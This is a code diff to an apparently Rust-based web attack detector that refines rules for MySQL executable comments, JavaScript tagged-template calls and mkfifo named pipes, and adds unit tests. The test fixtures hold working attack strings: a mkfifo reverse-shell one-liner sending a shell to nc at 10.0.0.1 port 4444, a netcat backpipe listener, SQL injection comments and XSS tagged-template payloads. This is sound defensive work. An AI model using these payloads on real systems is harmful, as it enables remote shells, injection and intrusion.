@@ -115,6 +115,18 @@ macro_rules! php_command_functions {
     };
 }
 
+/// What follows `/*!` when it opens MySQL's executable comment, whose content MySQL runs
+/// (`/*!50000union*/`, `/*!select*/`, `/*!and 1=1*/`): a version, or SQL. The same opener
+/// starts a banner in minified JavaScript and CSS (`/*! jQuery v3.6.0 | (c) OpenJS */`) and
+/// an inner doc comment in Rust (`/*! Crate docs */`). A macro so that the rule and
+/// libinjection's reading ([`super::structural`]) share it.
+macro_rules! mysql_executable_code {
+    () => {
+        r#"(?:\d{5}|\d*\s*(?:(?:union|select|from|where|having|order\s+by|group\s+by|limit|insert|update|delete|drop|null|information_schema)\b|(?:and|or|xor|not|&&|\|\|)\s*(?:[\d'"(@!~-]|(?:true|false|null|not|select)\b)|(?:concat|char|version|user|database|schema|sleep|benchmark|if|ascii|substr\w*)\s*\(|['"(@=<>]))"#
+    };
+}
+pub(super) use mysql_executable_code;
+
 /// Every pattern rule. Texts are decoded and lowercased before matching.
 static RULES: &[Rule] = &[
     // SQL injection (besides the libinjection tokenizer, which covers tautologies and most
@@ -249,7 +261,13 @@ static RULES: &[Rule] = &[
         Plain,
         r#"(?:^|(?:^|[^\w.@])[\w.@]*[\w.@&&[^rbfu]]|[\w.@]{3})'\s*[-=&^*|]\s*'\s*$"#,
     ),
-    rule("sqli-mysql-comment", Sqli, 5, Plain, r"/\*!\d*\s*\w"),
+    rule(
+        "sqli-mysql-comment",
+        Sqli,
+        5,
+        Plain,
+        concat!(r"/\*!", mysql_executable_code!()),
+    ),
     // A JSON document in quotes as an operand of SQL's JSON operators, which WAFs that do not
     // parse them let through (Team82's bypass, CRS 942550): `'{"b":2}'::jsonb <@ '{…}'`,
     // `'[1,2]' ? '1'`, `'{…}' -> '$.c[2].f' = 7`, `json_extract('{…}', '$.name')`. Read in the
@@ -336,13 +354,15 @@ static RULES: &[Rule] = &[
         r"\b(?:alert|prompt|confirm)(?:\(\s*(?:\d|document|window|origin|['`])|`)|\bdocument\s*\.\s*(?:cookie|domain|write)\b|\bstring\s*\.\s*fromcharcode\s*\(|\bsrcdoc\s*=",
     ),
     // A function called by a tagged template, which needs no parentheses: `[].sort.call`…``,
-    // `Reflect.apply.call`…`` (a prompt template's `${prompt}` is no call).
+    // `Reflect.apply.call`…`` (a prompt template's `${prompt}` is no call). A sentence that
+    // opens with the word before a code span (``1. Call `connect` ``) spaces both sides,
+    // but never puts a space before its full stop (`[] . sort . call `…``).
     rule(
         "xss-js-tagged-call",
         Xss,
         5,
         Plain,
-        r"\.\s*(?:call|apply|bind)\s*`",
+        r"(?:\.|\s\.\s*)(?:call|apply|bind)\s*`|\.\s+(?:call|apply|bind)`",
     ),
     // Script reached through a global by name: `window["alert"](…)`, `(document)["cookie"]`,
     // or by a name built or decoded in the brackets and called: `window['ale'+'rt'](1)`,
@@ -525,7 +545,7 @@ static RULES: &[Rule] = &[
         Rce,
         5,
         Shell,
-        r"(?:^|[\s;&|`(=])/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\b|(?:^|[\s;&|`(=])/(?:usr/)?s?bin/[a-z]+\s+-|\bmkfifo\b|\bbash\s+-i\b",
+        r"(?:^|[\s;&|`(=])/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\b|(?:^|[\s;&|`(=])/(?:usr/)?s?bin/[a-z]+\s+-|\bmkfifo\s+(?:-m\s*\d+\s+)?(?:[/~.$]|[\w.-]+\s*(?:[;&|]|$))|\bbash\s+-i\b",
     ),
     // A redirection right after a command separator (`;> /etc/passwd`, `&& >> ~/.ssh/x`)
     // empties or appends to a file with no command at all. A lone `&` is left out (`cmd &>
@@ -1737,6 +1757,63 @@ mod tests {
             "xss-js-sink-after-break",
             &[";alert(123);", "x;prompt(1)", "; confirm`1`"],
             &["stop; alert() is blocking", "done; alert (the team) later"],
+        );
+    }
+
+    #[test]
+    fn an_executable_comment_counts_with_sql_or_a_version() {
+        assert_finds(
+            Forms::PLAIN,
+            "sqli-mysql-comment",
+            &[
+                "1/*!union*//*!select*/1,2",
+                "/*!50000select*/ 1",
+                "x/*! and 1=1*/",
+                "/*!12345UNION*/",
+                "/*!'a'*/",
+            ],
+            &[
+                "/*! jquery v3.6.0 | (c) openjs foundation */",
+                "/*! for license information please see main.js.license.txt */",
+                "/*! crate docs: please file an issue */",
+                "/*! and fit in a single line */",
+                "/*! version: 2.1.0 */",
+                "/*! original author: someone */",
+                "/*! 2024 example corp */",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_named_pipe_counts_when_it_is_made() {
+        assert_finds(
+            Forms::of(Form::Shell),
+            "rce-shell-path",
+            &[
+                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+                "mkfifo -m 600 ./p",
+                "mkfifo backpipe; nc -l 4444 0<backpipe",
+            ],
+            &[
+                "use mkfifo to create a named pipe",
+                "mkfifo(FIFO_NAME, Mode::S_IRWXU)?;",
+                "https://www.man7.org/linux/man-pages/man3/mkfifo.3.html",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_tagged_template_call_is_not_a_sentence_before_code() {
+        assert_finds(
+            Forms::PLAIN,
+            "xss-js-tagged-call",
+            &[
+                "[].sort.call`${alert}1`",
+                "x. call`y`",
+                "reflect.apply.call `alert`",
+                "[  ] . sort . call ` ${ alert } 1337 `",
+            ],
+            &["1. call `tcpstream::connect`", "done. apply `fix` next"],
         );
     }
 
